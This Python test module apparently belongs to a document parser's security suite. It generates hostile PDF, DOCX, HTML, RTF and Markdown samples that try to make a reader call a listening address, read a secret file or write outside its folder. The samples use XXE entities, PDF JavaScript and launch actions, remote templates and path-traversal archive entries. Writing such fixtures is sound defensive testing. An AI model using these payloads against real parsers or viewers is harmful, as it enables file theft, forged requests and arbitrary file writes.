"""Documents that ask the reader to call an address, to read a file or to write one."""

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.hostile.pdf_writer import CATALOG, FONT, FORM, PAGES, WORDS, one_page, page, pdf_of, stream, with_resources
from tests.hostile.xml_tricks import entities
from tests.hostile.zip_writer import NAMESPACES, Entry, document_xml, docx, package, relationships
from tests.hostile.zip_writer import WORDS as PARAGRAPH


@dataclass(frozen=True, slots=True)
class Bait:
    """What a document may name: an address that listens, a file with a secret, a folder to write to."""

    url: bytes
    secret_file: Path
    folder: Path

    @property
    def secret_path(self) -> bytes:
        return bytes(self.secret_file)

    @property
    def target(self) -> bytes:
        return bytes(self.folder / "written-by-a-document")


def acting(action: bytes) -> bytes:
    """Return a PDF that acts when it is opened, when its page is, and over a link."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << %s >> /AA << /WC << %s >> >> >>" % (action, action)
    link = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << %s >> >>] /AA << /O << %s >> >>"
    return pdf_of([catalog, PAGES, page(link % (action, action)), stream(WORDS), FONT])


def outside_stream(file: bytes) -> bytes:
    return with_resources(b"/F Do", b"/XObject << /F 6 0 R >>", stream(b"", FORM + b" /F (%s) /FFilter null" % file))


def form_of_xml(bait: Bait) -> bytes:
    xfa = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file://%s"><!ENTITY y SYSTEM "%s">]><a>&x;&y;</a>'
    catalog = CATALOG.replace(b">>", b"/AcroForm << /XFA 6 0 R /Fields [] >> >>")
    return pdf_of([catalog, PAGES, page(), stream(WORDS), FONT, stream(xfa % (bait.secret_path, bait.url))])


def attachment(name: bytes) -> bytes:
    catalog = CATALOG.replace(b">>", b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >> >>")
    file = b"<< /Type /Filespec /F (%s) /UF (%s) /EF << /F 7 0 R >> >>" % (name, name)
    return pdf_of([catalog, PAGES, page(), stream(WORDS), FONT, file, stream(b"owned")])


def included(bait: Bait) -> bytes:
    include = b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="%s" parse="text"/>'
    return docx(PARAGRAPH + include % (b"file://" + bait.secret_path) + include % bait.url)


def related(kind: bytes, target: bytes, more: bytes = b'TargetMode="External"') -> bytes:
    body = b'<w:p><w:hyperlink r:id="r0"><w:r><w:t>Jane Example</w:t></w:r></w:hyperlink></w:p>'
    header = b'<w:sectPr><w:headerReference w:type="default" r:id="r0"/></w:sectPr>'
    return docx(body + header, relationships((kind, target, more)))


def web_page(bait: Bait) -> bytes:
    return (
        b'<!DOCTYPE html><html><head><base href="%s"><link rel="stylesheet" href="a.css"><meta http-equiv="refresh"'
        b' content="0;url=%s"><style>@import url("%s");</style></head><body><img src="%s"><iframe src="file://%s">'
        b"</iframe><script src=a.js></script><p>Jane Example, Clerk</p></body></html>"
    ) % (*[bait.url] * 4, bait.secret_path)


BAITS: dict[str, Callable[[Bait], bytes]] = {
    "PDF: JavaScript": lambda bait: acting(b"/S /JavaScript /JS (app.launchURL\\('%s'\\))" % bait.url),
    "PDF: a program to launch": lambda bait: acting(b"/S /Launch /F (/usr/bin/touch) /P (%s)" % bait.target),
    "PDF: an address to call": lambda bait: acting(b"/S /URI /URI (%s)" % bait.url),
    "PDF: a form to send": lambda bait: acting(b"/S /SubmitForm /F << /FS /URL /F (%s) >>" % bait.url),
    "PDF: data to import": lambda bait: acting(b"/S /ImportData /F (%s)" % bait.secret_path),
    "PDF: a document elsewhere": lambda bait: acting(b"/S /GoToR /F (%s) /D [0 /Fit]" % bait.secret_path),
    "PDF: a stream in a file": lambda bait: outside_stream(bait.secret_path),
    "PDF: a stream at an address": lambda bait: outside_stream(bait.url),
    "PDF: a form in XML": form_of_xml,
    "PDF: an attachment with a path": lambda bait: attachment(bait.target),
    "PDF: an attachment that climbs": lambda bait: attachment(b"../" * 20 + bait.target),
    "PDF: a font in a file": lambda bait: one_page(
        WORDS,
        b"<< /Type /FontDescriptor /FontName /X /FontFile << /F (%s) >> >>" % bait.secret_path,
        font=FONT.replace(b">>", b"/FontDescriptor 6 0 R >>"),
    ),
    "DOCX: a file as an entity": lambda bait: entities(b'<!ENTITY x SYSTEM "file://%s">' % bait.secret_path, b"&x;"),
    "DOCX: an address as an entity": lambda bait: entities(b'<!ENTITY x SYSTEM "%s">' % bait.url, b"&x;"),
    "DOCX: an entity of parameters": lambda bait: entities(b'<!ENTITY %% x SYSTEM "%s"> %%x;' % bait.url, b"Clerk"),
    "DOCX: a document type elsewhere": lambda bait: package(
        b'<!DOCTYPE w:document SYSTEM "%s">' % bait.url + document_xml(PARAGRAPH)
    ),
    "DOCX: a schema elsewhere": lambda bait: package(
        document_xml(PARAGRAPH).replace(
            NAMESPACES,
            NAMESPACES + b' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a %s"' % bait.url,
        )
    ),
    "DOCX: an included file": included,
    "DOCX: a template elsewhere": lambda bait: related(b"attachedTemplate", bait.url),
    "DOCX: a picture elsewhere": lambda bait: related(b"image", bait.url),
    "DOCX: a header elsewhere": lambda bait: related(b"header", bait.url),
    "DOCX: a header in a file": lambda bait: related(b"header", b"../" * 20 + bait.secret_path, b""),
    "DOCX: a part that climbs": lambda bait: docx(PARAGRAPH, Entry(b"../" * 20 + bait.target, b"owned")),
    "DOCX: a part with a path": lambda bait: docx(PARAGRAPH, Entry(bait.target, b"owned")),
    "DOCX: a part with a path of Windows": lambda bait: docx(PARAGRAPH, Entry(b"C:\\..\\..\\" + bait.target, b"owned")),
    "HTML: a page of addresses": web_page,
    "RTF: a file to include": lambda bait: (
        rb'{\rtf1 {\field{\*\fldinst INCLUDETEXT "%s"}{\fldrslt Jane}}{\*\template %s} Example}'
        % (bait.secret_path, bait.url)
    ),
    "Markdown: a picture elsewhere": lambda bait: b"# Jane Example\n\n![a](%s)\n\n- Clerk\n" % bait.url,
}
